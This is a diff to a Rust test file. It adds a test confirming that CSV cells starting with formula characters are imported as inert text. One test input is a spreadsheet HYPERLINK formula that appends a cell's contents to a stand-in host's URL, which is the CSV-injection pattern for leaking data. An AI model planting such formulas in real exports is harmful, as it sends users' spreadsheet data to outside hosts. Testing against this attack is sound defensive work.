@@ -45,6 +45,26 @@ fn separators_encodings_and_names_of_columns_are_found_out() {
     assert!(error.contains("`one`, `two`") && error.contains("--kind"), "{error}");
 }
 
+/// Spreadsheet programs run a cell that begins with one of these characters as a formula (OWASP: *CSV Injection*). Here it is text: nothing is
+/// run, nothing is added or lost, and a check of the mapping shows what it is.
+#[test]
+fn a_cell_with_a_formula_is_text_like_any_other() {
+    let cells = ["=HYPERLINK(\"https://example.com?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(1;2)", "=1\tx", "a\rb"];
+    for cell in cells {
+        let mut writer = csv::Writer::from_writer(Vec::new());
+        writer.write_record(["source", "target", "default"]).unwrap();
+        writer.write_record(["jobtitle", "middleName", cell]).unwrap();
+        writer.write_record([cell, "firstName", ""]).unwrap();
+        let result = imported(&writer.into_inner().unwrap());
+        let literal = cell.replace('"', "\\\"").replace('\t', "\\t").replace('\r', "");
+        assert!(result.text.contains(&format!("\"{literal}\"")), "{cell:?}: {}", result.text);
+        let hidden = result.text.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\t'));
+        assert_eq!(hidden, None, "{cell:?}: {:?}", result.text);
+        let compiled = compile(vec![Input { name: "a".to_owned(), bytes: result.text.clone().into_bytes() }], Catalogue::builtin());
+        assert!(!compiled.diagnostics.iter().any(|d| d.code.name().starts_with("D0")), "{cell:?}: {}", result.text);
+    }
+}
+
 #[test]
 fn a_table_of_yaml_holds_all_three_kinds() {
     let folder = tempfile::tempdir().expect("a folder");
